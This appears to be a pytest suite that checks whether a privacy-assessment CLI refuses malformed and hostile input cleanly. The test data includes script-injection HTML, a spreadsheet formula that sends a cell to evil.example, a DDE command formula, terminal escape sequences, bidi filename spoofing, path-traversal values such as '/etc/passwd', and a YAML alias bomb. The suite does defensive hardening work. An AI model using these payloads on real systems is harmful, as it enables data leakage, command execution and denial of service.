"""Broken and hostile input through the real commands: refused clearly, never a traceback.

Every refusal is checked the way a privacy officer meets it: exit code 2, a message on stderr
that names the file (and the row or field) and says what to do, no Python traceback, nothing
on stderr that could steer the terminal, and no earlier report touched by ``assess``.
Hostile text that is *valid* (HTML, formulas, bidi and zero-width characters, emoji, very long
cells) is accepted, kept exactly, and printed without raw control characters.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from builders import grow, rows, write_rows
from conftest import AS_OF, DATA, run_cli

from lcopia.load import load

# What a terminal must never receive raw: C0/C1 controls (not newline/tab), DEL, bidi controls.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
DAY = AS_OF.isoformat()
CUT_LIMIT = csv.field_size_limit()


def set_cell(path: Path, row: int, column: str, value: str) -> None:
    """Change one cell; ``row`` as a spreadsheet numbers it (header = 1)."""
    table = rows(path)
    table[row - 1][table[0].index(column)] = value
    write_rows(path, table)


def assert_refused(result: subprocess.CompletedProcess, *needles: str, code: int = 2) -> None:
    """Exit code, no traceback, every needle in stderr, nothing terminal-steering."""
    assert result.returncode == code, (result.returncode, result.stderr[-3000:])
    assert "Traceback" not in result.stderr + result.stdout
    for needle in needles:
        assert needle in result.stderr, (needle, result.stderr[-3000:])
    assert not UNSAFE.search(result.stderr)


def assert_accepted(result: subprocess.CompletedProcess) -> None:
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    assert not UNSAFE.search(result.stdout + result.stderr)


@pytest.fixture
def full_copy(tmp_path: Path) -> Path:
    """A private copy of the whole sample, evidence exports and captures included."""
    dest = tmp_path / "data"
    shutil.copytree(DATA, dest, symlinks=True)
    return dest


# ----------------------------------------------------------------------------- broken files


def _pipe_separated(data: Path) -> None:
    path = data / "inventory/answers.csv"
    write_rows(path, rows(path), delimiter="|")


def _fifty_megabytes(data: Path) -> None:
    path = data / "inventory/answers.csv"
    text = path.read_text(encoding="utf-8")
    header, body = text.split("\n", 1)
    with path.open("w", encoding="utf-8") as fh:
        fh.write(header + "\n")
        for _ in range(50_000_000 // len(body) + 1):
            fh.write(body)
    assert path.stat().st_size > 50_000_000


def _nul_after_the_sniffed_head(data: Path) -> None:
    path = data / "inventory/systems.csv"
    raw = path.read_bytes()
    cut = raw.index(b"\n", 5000) + 1
    path.write_bytes(raw[:cut] + b"\x00" + raw[cut:])


def _huge_cell(data: Path) -> None:
    set_cell(data / "inventory/systems.csv", 3, "notes", "n" * (CUT_LIMIT + 10))


def _replace(rel: str, old: str, new: str) -> Callable[[Path], None]:
    def mutate(data: Path) -> None:
        path = data / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, (rel, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return mutate


def _write(rel: str, content: bytes | str) -> Callable[[Path], None]:
    def mutate(data: Path) -> None:
        path = data / rel
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return mutate


def _header_only(rel: str) -> Callable[[Path], None]:
    def mutate(data: Path) -> None:
        path = data / rel
        path.write_text(path.read_text(encoding="utf-8").split("\n", 1)[0] + "\n",
                        encoding="utf-8")
    return mutate


ALIAS_BOMB = "".join(
    [f"l0: &l0 [{', '.join(['lol'] * 9)}]\n"]
    + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10)])

BROKEN: list[tuple[str, Callable[[Path], None], tuple[str, ...]]] = [
    ("empty-csv", _write("inventory/systems.csv", b""),
     ("inventory/systems.csv", "is empty", "header row")),
    ("header-only-systems", _header_only("inventory/systems.csv"),
     ("inventory/systems.csv", "only the header row", "add one row per system")),
    ("header-only-flows", _header_only("inventory/flows.csv"),
     ("inventory/flows.csv", "only the header row", "add one row per flow")),
    ("pipe-delimiter", _pipe_separated,
     ("inventory/answers.csv, row 1", "only one column", "'|'", "CSV UTF-8 (comma delimited)")),
    ("binary-garbage", _write("inventory/disclosures.csv", random.Random(7).randbytes(6000)),
     ("inventory/disclosures.csv", "binary", "CSV UTF-8")),
    ("neither-utf8-nor-1252", _write("inventory/flows.csv", b"flow_id,system_id\n\x81\x8d\x90\n"),
     ("inventory/flows.csv", "neither UTF-8 nor Windows-1252", "CSV UTF-8")),
    ("cut-utf16", _write("inventory/answers.csv", b"\xff\xfec\x00o\x00n"),
     ("inventory/answers.csv", "UTF-16", "save it again")),
    ("nul-byte-late", _nul_after_the_sniffed_head,
     ("inventory/systems.csv", "NUL byte on line", "save it again")),
    ("cell-over-csv-limit", _huge_cell,
     ("inventory/systems.csv, row 3", f"longer than {CUT_LIMIT:,} characters", "shorten it")),
    ("fifty-megabyte-csv", _fifty_megabytes,
     ("inventory/answers.csv", "larger than the 20 MB", "right file")),
    ("yaml-duplicate-key", _replace("policy/scales.yaml", "likelihood_base: 1",
                                    "likelihood_base: 1\nlikelihood_base: 2"),
     ("policy/scales.yaml", "line 26: duplicate key 'likelihood_base'",
      "keep one of the two")),
    ("yaml-alias-bomb", _write("inventory/library.yaml", ALIAS_BOMB),
     ("inventory/library.yaml", "aliases", "not allowed", "write the value out in full")),
    ("yaml-deep-nesting", _write("taxonomy/categories.yaml", "a: " + "[" * 5000 + "]" * 5000),
     ("taxonomy/categories.yaml", "nested deeper than", "unclosed brackets")),
    ("yaml-syntax", _replace("policy/statutes.yaml", "statutes:", "statutes: [\n  - oops"),
     ("policy/statutes.yaml", "not valid YAML at line", "check indentation and quotes")),
    ("yaml-a-list", _write("taxonomy/vocabularies.yaml", "- one\n- two\n"),
     ("taxonomy/vocabularies.yaml", "should be a YAML mapping")),
    ("yaml-empty", _write("policy/counsel_questions.yaml", ""),
     ("policy/counsel_questions.yaml", "should be a YAML mapping")),
    ("unknown-scale-value", _replace("policy/scales.yaml", "T2: 2,", "T2: 7,"),
     ("policy/scales.yaml", "field 'severity_by_tier.T2'", "got '7'",
      "must be a severity value [1, 2, 3, 4]")),
    ("unknown-scale-tier", _replace("policy/scales.yaml", "T4: 3}", "T4: 3, T9: 4}"),
     ("policy/scales.yaml", "got 'T9'", "names a tier not in tiers")),
    ("missing-file", lambda d: (d / "policy/controls.yaml").unlink(),
     ("policy/controls.yaml", "file is missing", "restore it")),
]


@pytest.mark.parametrize("mutate,needles", [pytest.param(m, n, id=i) for i, m, n in BROKEN])
def test_broken_file_is_refused_by_validate_and_score(data_copy, mutate, needles):
    mutate(data_copy)
    for args in (("validate",), ("score", "--as-of", DAY)):
        result = run_cli(*args, "--data", str(data_copy))
        assert_refused(result, *needles, "Fix these in the files named")
        assert result.stdout == ""


def test_a_renamed_column_is_one_problem_not_one_per_row(data_copy):
    path = data_copy / "inventory/systems.csv"
    table = rows(path)
    table[0][table[0].index("owner")] = "ownr"
    write_rows(path, table)
    result = run_cli("validate", "--data", str(data_copy))
    assert_refused(result, "2 problems", "field 'ownr'", "did you mean 'owner'",
                   "field 'owner'; column is missing from the header row")


def test_an_unreadable_table_does_not_bury_its_problem_under_dangling_references(data_copy):
    (data_copy / "inventory/flows.csv").write_bytes(b"\x00" * 100)
    result = run_cli("validate", "--data", str(data_copy))
    assert_refused(result, "1 problem in", "inventory/flows.csv", "binary")
    assert "names no flow" not in result.stderr


@pytest.mark.parametrize("encode", [
    pytest.param(lambda t: b"\xef\xbb\xbf" + t.encode("utf-8"), id="utf8-bom"),
    pytest.param(lambda t: t.replace("\n", "\r\n").encode("utf-16"), id="utf16-excel"),
    pytest.param(lambda t: t.encode("cp1252"), id="windows-1252"),
])
def test_spreadsheet_encodings_validate_and_score_the_same(data_copy, encode):
    path = data_copy / "inventory/flows.csv"
    set_cell(path, 2, "notes", "Reviewed by the café committee – «ok»")
    before = run_cli("score", "--data", str(data_copy), "--as-of", DAY, "--format", "json")
    assert_accepted(before)
    path.write_bytes(encode(path.read_text(encoding="utf-8")))
    assert_accepted(run_cli("validate", "--data", str(data_copy)))
    after = run_cli("score", "--data", str(data_copy), "--as-of", DAY, "--format", "json")
    assert_accepted(after)
    strip = ("inputs",)  # file hashes differ with the encoding; every result must not
    assert ({k: v for k, v in json.loads(after.stdout).items() if k not in strip}
            == {k: v for k, v in json.loads(before.stdout).items() if k not in strip})


def test_unclosed_quote_is_reported_on_its_row(data_copy):
    path = data_copy / "inventory/flows.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[-1] = lines[-1].replace(",", ',"', 1)  # the last row opens a quote it never closes
    path.write_text("".join(lines), encoding="utf-8")
    result = run_cli("validate", "--data", str(data_copy))
    assert_refused(result, f"inventory/flows.csv, row {len(lines)}")


# ----------------------------------------------------------------------------- bad values


def test_bad_references_and_values_are_each_located(data_copy):
    inv = data_copy / "inventory"
    flows, answers, disclosures = rows(inv / "flows.csv"), rows(inv / "answers.csv"), rows(
        inv / "disclosures.csv")
    set_cell(inv / "flows.csv", 3, "flow_id", flows[1][0])
    set_cell(inv / "flows.csv", 4, "retention_days", "-30")
    set_cell(inv / "answers.csv", 2, "target_id", "no-such-target")
    set_cell(inv / "disclosures.csv", 4, "request_id", disclosures[2][0])
    set_cell(inv / "disclosures.csv", 2, "received", "2/30/2026")
    set_cell(inv / "systems.csv", 5, "privacy_policy_reviewed", "2031-01-01")
    _replace("inventory/library.yaml", "period_end: 2026-11-30", "period_end: 2024-11-30")(
        data_copy)
    assert answers[1][1] == "library"
    result = run_cli("score", "--data", str(data_copy), "--as-of", DAY)
    assert_refused(
        result,
        "inventory/flows.csv, row 3, field 'flow_id'", "must be unique",
        "inventory/flows.csv, row 4, field 'retention_days'", "cannot be negative",
        "inventory/answers.csv, row 2, field 'target_id': got 'no-such-target'",
        "inventory/disclosures.csv, row 4, field 'request_id'",
        "inventory/disclosures.csv, row 2, field 'received': got '2/30/2026'",
        "inventory/systems.csv, row 5, field 'privacy_policy_reviewed'",
        "after the assessment date 2026-11-30; check the year",
        "inventory/library.yaml, field 'period_end'", "is before period_start")


@pytest.mark.parametrize("args,needle", [
    (("score", "--as-of", "2026-02-30"), "'2026-02-30' is not a date"),
    (("score", "--as-of", "30/11/2026"), "write it as YYYY-MM-DD"),
    (("scan", "x.csv", "--date-column", "d", "--retention-days", "-5"),
     "--retention-days must be 0 or more"),
    (("scan", "x.csv", "--k", "0"), "'0' must be 1 or more"),
    (("assess", "--jobs", "zero"), "'zero' is not a whole number"),
])
def test_impossible_option_values_are_refused(args, needle, tmp_path):
    (tmp_path / "x.csv").write_text("branch,d\nCentral,2026-01-01\n", encoding="utf-8")
    result = run_cli(*args, cwd=tmp_path)
    assert_refused(result, needle)


# ----------------------------------------------------------------------------- scale
# The 10,000-system run is measured in benchmarks/bench_scale.py (it checks the same facts
# and prints the timings); here a few hundred systems prove the counting and the ranking.

MANY = 120  # ten times the sample's systems


def test_many_systems_validate_and_are_all_counted(data_copy):
    flows = grow(data_copy, MANY)
    result = run_cli("validate", "--data", str(data_copy))
    assert_accepted(result)
    assert f"Systems: {MANY} " in result.stdout
    assert f"Flows: {flows}" in result.stdout


def test_many_systems_score_and_are_ranked_without_a_gap(data_copy):
    flows = grow(data_copy, MANY)
    result = run_cli("score", "--data", str(data_copy), "--as-of", DAY, "--format", "json")
    assert_accepted(result)
    scored = json.loads(result.stdout)
    assert len(scored["systems"]) == MANY and len(scored["flows"]) == flows
    assert scored["counts"]["systems"] == MANY
    assert sorted(s["rank"] for s in scored["systems"]) == list(range(1, MANY + 1))


# ----------------------------------------------------------------------------- hostile text

FREE_TEXT = {
    "systems.csv": ("name", "vendor", "service", "notes"),
    "flows.csv": ("purpose", "recipient", "rationale", "notes"),
    "answers.csv": ("evidence", "comment"),
    "disclosures.csv": ("requester", "records_requested", "notes"),
}
BUNDLE_KEYS = {"systems.csv": "systems", "flows.csv": "flows", "answers.csv": "answers",
               "disclosures.csv": "disclosures"}
HOSTILE = {
    "html-script": '<script>alert("x")</script><img src=x onerror=alert(1)>&amp;',
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"open")',
    "dde-formula": "+cmd|' /C calc'!A0 @SUM(1+1) -2+3",
    "bidi-zero-width": "invoice\u202etxt.exe\u2066x\u2069 a\u200bb\u200dc\ufeffd",
    "emoji": "📚 👩‍👩‍👧 🏳️‍🌈 café",
    "terminal-escapes": "ok\x1b[2J\x1b]0;owned\x07\x1b[31mRED\x08\x9b",
    "newlines-in-cell": "line one\r\nline two\n=second line formula",
    "very-long": "Lorem ipsum " * 2000 + "end",
}


def _plant(data: Path, payload: str) -> dict[tuple[str, str], str]:
    """Put the payload (tagged with where it went) into row 2 of every free-text column."""
    planted = {}
    for name, columns in FREE_TEXT.items():
        path = data / "inventory" / name
        table = rows(path)
        for column in columns:
            value = f"{payload}|{name}:{column}"
            table[1][table[0].index(column)] = value
            planted[(name, column)] = value
        write_rows(path, table)
    return planted


def _strings(node: object) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for v in node.values() for s in _strings(v)]
    if isinstance(node, list):
        return [s for v in node for s in _strings(v)]
    return []


@pytest.mark.parametrize("payload", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_free_text_is_kept_exactly_and_printed_safely(data_copy, payload):
    planted = _plant(data_copy, payload)
    bundle = json.loads(load(data_copy, as_of=AS_OF).model_dump_json())
    for (name, column), value in planted.items():
        assert bundle["inventory"][BUNDLE_KEYS[name]][0][column] == value

    assert_accepted(run_cli("validate", "--data", str(data_copy)))
    as_json = run_cli("score", "--data", str(data_copy), "--as-of", DAY, "--format", "json")
    assert_accepted(as_json)
    scored = json.loads(as_json.stdout)
    system = next(s for s in scored["systems"] if s["name"] == planted[("systems.csv", "name")])
    assert system["vendor"] == planted[("systems.csv", "vendor")]
    assert any(c["evidence"] == planted[("answers.csv", "evidence")] for c in scored["controls"])
    for text in _strings(scored):  # wherever a planted value is quoted, it is quoted whole
        for value in planted.values():
            tag = value[len(payload):]
            if tag in text:
                assert value in text, (tag, text[:200])

    as_text = run_cli("score", "--data", str(data_copy), "--as-of", DAY)
    assert_accepted(as_text)
    if "\x1b" in payload:
        assert "\\u001b[2J" in as_text.stdout  # shown, escaped, not obeyed


def test_hostile_column_name_is_reported_without_steering_the_terminal(data_copy):
    path = data_copy / "inventory/systems.csv"
    table = rows(path)
    table[0].append("\x1b]0;owned\x07<b>extra</b>\u202e")
    for row in table[1:]:
        row.append("")
    write_rows(path, table)
    result = run_cli("validate", "--data", str(data_copy))
    assert_refused(result, "inventory/systems.csv, row 1", "is not a column lcopia knows",
                   "\\u001b]0;owned\\u0007")


# ----------------------------------------------------------------------------- evidence manifest


def _manifest_file(data: Path, value: str) -> None:
    path = data / "evidence/manifest.yaml"
    text = path.read_text(encoding="utf-8")
    old = "file: exports/circulation_loans.csv"
    assert old in text
    path.write_text(text.replace(old, f"file: {json.dumps(value)}", 1), encoding="utf-8")


def _link(data: Path, name: str, target: Path) -> None:
    os.symlink(target, data / "evidence" / name)


MANIFEST_PATHS = [
    ("dot-dot", "../inventory/systems.csv", None, "('..' is refused)"),
    ("dot-dot-inside", "exports/../../inventory/flows.csv", None, "('..' is refused)"),
    ("absolute", "/etc/passwd", None, "(absolute paths are refused)"),
    ("windows-drive", "C:\\exports\\loans.csv", None, "(absolute paths are refused)"),
    ("symlink-out", "exports/escape.csv", ("exports/escape.csv", Path("/etc/hostname")),
     "a link that points outside it"),
    ("symlinked-folder", "outside/circulation_loans.csv",
     ("outside", DATA / "evidence" / "exports"), "a link that points outside it"),
    ("symlink-inside", "exports/alias.csv", ("exports/alias.csv", Path("circulation_loans.csv")),
     "a plain file, not a symbolic link"),
]


@pytest.mark.parametrize("value,link,needle", [pytest.param(v, ln, n, id=i)
                                               for i, v, ln, n in MANIFEST_PATHS])
def test_manifest_path_outside_the_evidence_folder_is_refused(full_copy, value, link, needle):
    if link:
        _link(full_copy, *link)
    _manifest_file(full_copy, value)
    result = run_cli("score", "--data", str(full_copy), "--as-of", DAY)
    assert_refused(result, "evidence/manifest.yaml, field 'exports[0].file'",
                   f"got {value!r}", needle)


def test_manifest_naming_a_missing_export_says_which(full_copy):
    _manifest_file(full_copy, "exports/loans-2026.csv")
    result = run_cli("score", "--data", str(full_copy), "--as-of", DAY)
    assert_refused(result, "exports/loans-2026.csv", "no such file", "Check the path")


def test_manifest_naming_an_unknown_flow_suggests_one(full_copy):
    _replace("evidence/manifest.yaml", "flow_id: FL-CIRC-LOANS", "flow_id: FL-CIRC-LOAN")(
        full_copy)
    result = run_cli("score", "--data", str(full_copy), "--as-of", DAY)
    assert_refused(result, "manifest.yaml, field 'exports[0].flow_id'", "got 'FL-CIRC-LOAN'",
                   "did you mean 'FL-CIRC-LOANS'")


def test_manifest_with_an_alias_bomb_is_refused_quickly(full_copy):
    path = full_copy / "evidence/manifest.yaml"
    path.write_text(ALIAS_BOMB + path.read_text(encoding="utf-8"), encoding="utf-8")
    result = run_cli("score", "--data", str(full_copy), "--as-of", DAY)
    assert_refused(result, "evidence/manifest.yaml")


def test_manifest_with_a_duplicate_key_is_refused(full_copy):
    _replace("evidence/manifest.yaml", "    claims: identifying\n",
             "    claims: identifying\n    claims: statistics\n")(full_copy)
    result = run_cli("score", "--data", str(full_copy), "--as-of", DAY)
    assert_refused(result, "evidence/manifest.yaml", "duplicate")


def test_manifest_nested_thousands_deep_is_refused(full_copy):
    (full_copy / "evidence/manifest.yaml").write_text("exports: " + "[" * 5000 + "]" * 5000,
                                                      encoding="utf-8")
    result = run_cli("score", "--data", str(full_copy), "--as-of", DAY)
    assert_refused(result, "evidence/manifest.yaml")


# ----------------------------------------------------------------------------- scan


def _loans() -> bytes:
    return (DATA / "evidence/exports/circulation_loans.csv").read_bytes()


def _cut_workbook(path: Path) -> None:
    raw = (DATA / "evidence/exports/pc_sessions.xlsx").read_bytes()
    path.write_bytes(raw[: len(raw) // 2])


SCAN_BROKEN: list[tuple[str, str, Callable[[Path], None], tuple[str, ...]]] = [
    ("empty", "loans.csv", lambda p: p.write_bytes(b""), ("is empty", "Export the file again")),
    ("binary-garbage", "loans.csv", lambda p: p.write_bytes(random.Random(3).randbytes(9000)),
     ("binary", "Export the data as CSV")),
    ("pdf-named-csv", "loans.csv", lambda p: p.write_bytes(b"%PDF-1.7\n" + b"x" * 200),
     ("not a delimited text file", "Export the data as CSV")),
    ("truncated-xlsx", "sessions.xlsx", _cut_workbook,
     ("not a readable XLSX workbook", "save it again")),
    ("csv-named-xlsx", "sessions.xlsx", lambda p: p.write_bytes(_loans()[:2000]),
     ("has an .xlsx name but is not a workbook", "Export the data again")),
    ("truncated-jsonl", "events.jsonl",
     lambda p: p.write_bytes((DATA / "evidence/exports/event_attendance.jsonl").read_bytes()[:700]),
     ("is not valid JSON (it may be cut short)", "Export the data again")),
    ("blank-first-line", "loans.csv", lambda p: p.write_bytes(b"\n\n" + _loans()),
     ("has no header row", "Remove blank lines")),
    ("folder", "loans.csv", lambda p: p.mkdir(), ("is a folder", "Name the export file")),
    ("missing", "loans.csv", lambda p: None, ("no such file", "Check the path")),
]


@pytest.mark.parametrize("name,make,needles", [pytest.param(n, m, e, id=i)
                                               for i, n, m, e in SCAN_BROKEN])
def test_broken_export_is_refused_by_scan(tmp_path, name, make, needles):
    path = tmp_path / name
    make(path)
    result = run_cli("scan", str(path), "--as-of", DAY)
    assert_refused(result, f"{path}: ", *needles)
    assert result.stdout == ""


def _semicolons(raw: bytes) -> bytes:
    table = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(table)
    return buf.getvalue().encode("utf-8")


@pytest.mark.parametrize("encode", [
    pytest.param(lambda raw: b"\xef\xbb\xbf" + raw, id="utf8-bom"),
    pytest.param(lambda raw: raw.decode("utf-8").encode("utf-16"), id="utf16"),
    pytest.param(lambda raw: raw.decode("utf-8").encode("cp1252"), id="windows-1252"),
    pytest.param(_semicolons, id="semicolons-crlf"),
    pytest.param(lambda raw: _semicolons(raw).replace(b";", b"\t"), id="tabs"),
])
def test_export_quirks_scan_to_the_same_facts(tmp_path, encode):
    path = tmp_path / "loans.csv"
    path.write_bytes(encode(_loans()))
    result = run_cli("scan", str(path), "--as-of", DAY, "--format", "json")
    assert_accepted(result)
    (scan,) = json.loads(result.stdout)["files"]
    expected = len(_loans().decode("utf-8").strip().splitlines()) - 1
    assert scan["rows"] == expected and scan["rows_skipped"] == 0
    kinds = {c["name"]: c["kind"] for c in scan["columns"]}
    assert kinds["patron_barcode"] == "card_barcode" and kinds["email"] == "email"


def test_header_only_export_scans_as_zero_rows(tmp_path):
    path = tmp_path / "loans.csv"
    path.write_bytes(_loans().split(b"\n", 1)[0] + b"\n")
    result = run_cli("scan", str(path), "--as-of", DAY)
    assert_accepted(result)
    assert "0 rows)" in result.stdout


def test_fifty_megabyte_export_is_scanned_completely(tmp_path):
    header, body = _loans().split(b"\n", 1)
    copies = 50_000_000 // len(body) + 1
    path = tmp_path / "loans-50mb.csv"
    with path.open("wb") as fh:
        fh.write(header + b"\n")
        for _ in range(copies):
            fh.write(body)
    assert path.stat().st_size > 50_000_000
    result = run_cli("scan", str(path), "--as-of", DAY, "--format", "json")
    assert_accepted(result)
    (scan,) = json.loads(result.stdout)["files"]
    assert scan["rows"] == copies * body.count(b"\n")
    assert {c["name"] for c in scan["columns"] if c["kind"] == "email"} == {"email"}


def test_hostile_export_column_names_are_printed_safely(tmp_path):
    path = tmp_path / "loans.csv"
    header, body = _loans().split(b"\n", 1)
    hostile = '"\x1b[2J<script>x</script>=cmd|\' /C calc\'!A0\u202e"'.encode()
    path.write_bytes(header + b"," + hostile + b"\n" + body.replace(b"\n", b",\n"))
    for fmt in ("text", "json"):
        assert_accepted(run_cli("scan", str(path), "--as-of", DAY, "--format", fmt))


def test_scan_of_a_workbook_with_formulas_reads_values_not_formulas(tmp_path):
    path = tmp_path / "sessions.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["card_number", "branch", "note"])
    for i in range(30):
        sheet.append([f"2041700000{i:04d}", "Central", '=HYPERLINK("http://evil.example","x")'])
    book.save(path)
    result = run_cli("scan", str(path), "--as-of", DAY, "--format", "json")
    assert_accepted(result)
    assert "evil.example" not in result.stdout
    (scan,) = json.loads(result.stdout)["files"]
    assert scan["rows"] == 30


# ----------------------------------------------------------------------------- assess


def _snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            if p.is_file() else "dir" for p in sorted(folder.rglob("*"))}


@pytest.fixture
def earlier_reports(tmp_path: Path) -> Path:
    """A reports folder holding last year's signed report and this date's earlier run."""
    out = tmp_path / "reports"
    for day in ("2025-11-30", DAY):
        run = out / day
        (run / "notebooks").mkdir(parents=True)
        (run / "board-report.html").write_text(f"<p>Signed report of {day}</p>",
                                               encoding="utf-8")
        (run / "manifest.json").write_text(json.dumps({"as_of": day, "complete": True}),
                                           encoding="utf-8")
    return out


ASSESS_BROKEN = [
    ("empty-csv", BROKEN[0][1], BROKEN[0][2]),
    ("yaml-alias-bomb", BROKEN[11][1], BROKEN[11][2]),
    ("manifest-escape", lambda d: _manifest_file(d, "../inventory/systems.csv"),
     ("evidence/manifest.yaml, field 'exports[0].file'", "('..' is refused)")),
    ("export-cut-short", lambda d: _cut_workbook(d / "evidence/exports/pc_sessions.xlsx"),
     ("exports/pc_sessions.xlsx", "not a readable XLSX workbook")),
]


@pytest.mark.parametrize("mutate,needles", [pytest.param(m, n, id=i)
                                            for i, m, n in ASSESS_BROKEN])
def test_assess_on_broken_input_leaves_earlier_reports_alone(full_copy, earlier_reports,
                                                             mutate, needles):
    mutate(full_copy)
    before = _snapshot(earlier_reports)
    result = run_cli("assess", "--data", str(full_copy), "--out", str(earlier_reports),
                     "--as-of", DAY, "--quiet")
    assert_refused(result, *needles)
    after = _snapshot(earlier_reports)
    after.pop(".lcopia-assess.lock", None)  # the lock file may be left; it holds no report
    assert after == before
